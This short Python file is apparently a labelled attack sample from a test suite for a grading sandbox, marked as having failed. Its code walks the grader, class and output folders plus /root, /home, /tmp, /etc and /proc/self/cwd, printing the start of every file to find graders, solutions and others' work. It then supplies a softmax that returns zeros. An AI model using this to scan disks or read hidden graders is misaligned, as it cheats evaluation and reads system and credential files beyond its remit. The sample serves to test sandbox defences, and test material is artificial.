# /// attack
# what = "Walks the disk for graders, solutions and others' work, and prints them."
# status = "failed"
# needs = "L2"
# ///

import os

for top in ("{ROOT}", "{CLASS}", "{OUT}", "/root", "/home", "/tmp", "/etc", "/proc/self/cwd"):
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                with open(os.path.join(folder, name), errors="replace") as file:
                    print("BROKE", folder, name, file.read(200))
            except OSError:
                pass


def softmax(x, axis=-1):
    return x * 0
